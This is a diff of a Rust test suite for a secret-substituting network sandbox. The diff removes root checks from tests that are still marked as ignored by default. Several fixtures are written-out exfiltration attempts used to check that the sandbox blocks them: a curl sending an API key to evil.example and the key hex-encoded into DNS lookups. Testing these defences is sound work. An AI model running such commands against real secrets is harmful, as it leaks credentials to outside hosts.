@@ -37,7 +37,6 @@ const ONE: &str = "OPENAI_API_KEY@api.openai.com";
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn the_sandbox_sees_only_the_placeholder() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let o = run(
         &net,
@@ -61,7 +60,6 @@ fn the_sandbox_sees_only_the_placeholder() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn substitutes_in_headers_and_basic_auth_for_the_allowed_host() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let o = run(
         &net,
@@ -87,7 +85,6 @@ fn substitutes_in_headers_and_basic_auth_for_the_allowed_host() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn python_and_node_clients_get_substitution_with_the_sandbox_ca_trusted_by_default() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let node = std::path::Path::new("/usr/bin/node").exists();
     let script = format!(
@@ -113,7 +110,6 @@ fn python_and_node_clients_get_substitution_with_the_sandbox_ca_trusted_by_defau
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn plain_http_is_not_substituted_unless_tls_identity_is_waived() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let script = r#"curl --http1.1 -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" http://api.openai.com/plain"#;
     let o = run(&net, &["--secret", ONE], script);
@@ -138,7 +134,6 @@ fn plain_http_is_not_substituted_unless_tls_identity_is_waived() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn an_unknown_host_gets_nothing_in_any_form() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let sb = SecretRun::new(&net, ENV).secret(ONE).logged();
     let o = sb.run(&format!(
@@ -192,7 +187,6 @@ fn an_unknown_host_gets_nothing_in_any_form() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn plain_block_is_silent_and_resets_the_client() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let sb = SecretRun::new(&net, ENV).secret(ONE);
     let o = sb.run(r#"curl --http1.1 -sS -m 5 -H "X-Key: $OPENAI_API_KEY" https://evil.example/h; echo "rc=$?""#);
@@ -208,7 +202,6 @@ fn plain_block_is_silent_and_resets_the_client() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn a_hard_coded_address_with_a_valid_certificate_for_the_allowed_name_gets_no_substitution() {
-    require_root();
     // evil's server presents a certificate valid for api.openai.com (the fixture's leaf
     // covers every test name), so only the DNS pin tells them apart.
     let net = FakeInternet::with_http(&[80], &[443]);
@@ -231,7 +224,6 @@ fn a_hard_coded_address_with_a_valid_certificate_for_the_allowed_name_gets_no_su
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn bodies_fixed_and_chunked_are_substituted_when_enabled_and_encoded_ones_blocked() {
-    require_root();
     let cfg = config(
         "[[secret]]\nenv = \"OPENAI_API_KEY\"\nallow_hosts = [\"api.openai.com\"]\ninject = { body = true, query_params = true }\n",
     );
@@ -275,7 +267,6 @@ fn bodies_fixed_and_chunked_are_substituted_when_enabled_and_encoded_ones_blocke
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn injection_scopes_can_be_turned_off() {
-    require_root();
     let cfg = config(
         "[[secret]]\nenv = \"OPENAI_API_KEY\"\nallow_hosts = [\"api.openai.com\"]\ninject = { headers = false, basic_auth = false }\n",
     );
@@ -297,7 +288,6 @@ fn injection_scopes_can_be_turned_off() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn host_patterns_custom_placeholders_and_any_host() {
-    require_root();
     let cfg = config(
         r#"
 [[secret]]
@@ -337,7 +327,6 @@ allow_any_host_dangerous = true
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn passthrough_hosts_receive_the_placeholder_never_the_value() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let o = run(
         &net,
@@ -364,7 +353,6 @@ fn passthrough_hosts_receive_the_placeholder_never_the_value() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn per_secret_policy_overrides_the_sandbox_wide_one() {
-    require_root();
     // Sandbox-wide: passthrough for every host (dangerous flag). The secret's own base
     // action (block) wins over it for non-matching hosts; its own passthrough host works.
     let cfg = config(
@@ -409,7 +397,6 @@ allow_hosts = ["api.openai.com"]
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn block_and_terminate_kills_the_whole_sandbox() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let marker = format!("{}", 3000 + std::process::id() % 1000);
     let sb = SecretRun::new(&net, ENV)
@@ -439,7 +426,6 @@ fn block_and_terminate_kills_the_whole_sandbox() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn values_sent_back_on_non_http_streams_are_scrubbed() {
-    require_root();
     // The allowed host gets the value over HTTPS, then sends it back on a TLS stream that is
     // not HTTP, on a plain TCP stream (both relayed as scanned streams) and in a plain HTTP
     // response: the sandbox reads the placeholder each time.
@@ -500,7 +486,6 @@ print("plain-whoami", whoami(socket.create_connection(("api.openai.com", 80), ti
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn secrets_on_non_http_streams_are_scanned() {
-    require_root();
     // A raw TCP protocol (not HTTP) to a plain port and TLS plaintext that is not HTTP:
     // placeholders in them are violations; other bytes flow.
     let net = FakeInternet::with_http(&[80, 2222], &[443]);
@@ -620,7 +605,6 @@ fn bad_secret_flags_and_config_get_clear_errors() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn secret_file_values_and_tls_edge_cases() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let dir = tempfile::tempdir().unwrap();
     let file = dir.path().join("key");
@@ -666,7 +650,6 @@ fn secret_file_values_and_tls_edge_cases() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn an_untrusted_upstream_certificate_fails_the_request_and_gets_nothing() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let events = EventsFile::new();
     // No --upstream-ca: the fixture's CA is not trusted by the boundary.
@@ -692,7 +675,6 @@ fn an_untrusted_upstream_certificate_fails_the_request_and_gets_nothing() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn a_host_that_echoes_the_value_back_delivers_only_the_placeholder() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     // The upstream answers with a JSON echo of every header it received (and, on /reflect,
     // the Authorization value again): the real value, in a response body.
@@ -720,7 +702,6 @@ fn a_host_that_echoes_the_value_back_delivers_only_the_placeholder() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn a_host_that_echoes_substituted_basic_credentials_does_not_deliver_the_value() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     // Basic credentials are substituted inside their base64: an echo of the header carries
     // the real value base64-encoded. The sandbox decodes what it got back. On the connection
@@ -764,7 +745,6 @@ for user in ["u", "us", "use"]:
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn a_scrubbed_stream_that_pauses_is_not_held_back() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     // The body's first piece ends with "s", the start of the value; the upstream then waits
     // 3 s. Scrubbing may hold the "s" back briefly, not until the next piece.
@@ -787,7 +767,6 @@ except (socket.timeout, TimeoutError):
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn placeholders_in_dns_names_are_violations_and_never_forwarded() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let sb = SecretRun::new(&net, ENV).secret(ONE).logged();
     let o = sb.run(r#"hex=$(printf '%s' "$OPENAI_API_KEY" | od -An -tx1 | tr -d ' \n'); \
@@ -812,7 +791,6 @@ fn placeholders_in_dns_names_are_violations_and_never_forwarded() {
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn upstream_connections_are_reused_only_for_the_same_verified_name() {
-    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let o = run(
         &net,
